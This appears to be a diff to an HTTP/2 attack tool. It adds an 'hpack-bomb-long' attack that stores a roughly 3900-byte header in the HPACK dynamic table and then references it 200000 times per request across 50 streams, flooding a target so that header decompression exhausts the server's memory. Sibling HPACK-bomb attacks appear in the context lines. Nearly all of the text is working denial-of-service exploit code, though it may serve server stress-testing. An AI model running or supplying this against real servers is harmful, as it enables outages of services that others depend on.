@@ -51,6 +51,16 @@ def hpack_bomb_held(target):
     return lambda: flood(target, [blob])
 
 
+@attack("hpack-bomb-long", "the same with 200000 indexes, in CONTINUATION")
+def hpack_bomb_long(target):
+    def request(stream):
+        block = get(target) + (literal_indexed(b"x", b"y" * 3900) if stream == 1 else b"")
+        return headers(stream, block + indexed(62) * 200000, False)
+
+    blob = b"".join(request(stream) for stream in range(1, 101, 2))
+    return lambda: flood(target, [blob])
+
+
 @attack("hpack-bomb-small", "the same with 50 indexes in each of 100 open requests")
 def hpack_bomb_small(target):
     def request(stream):
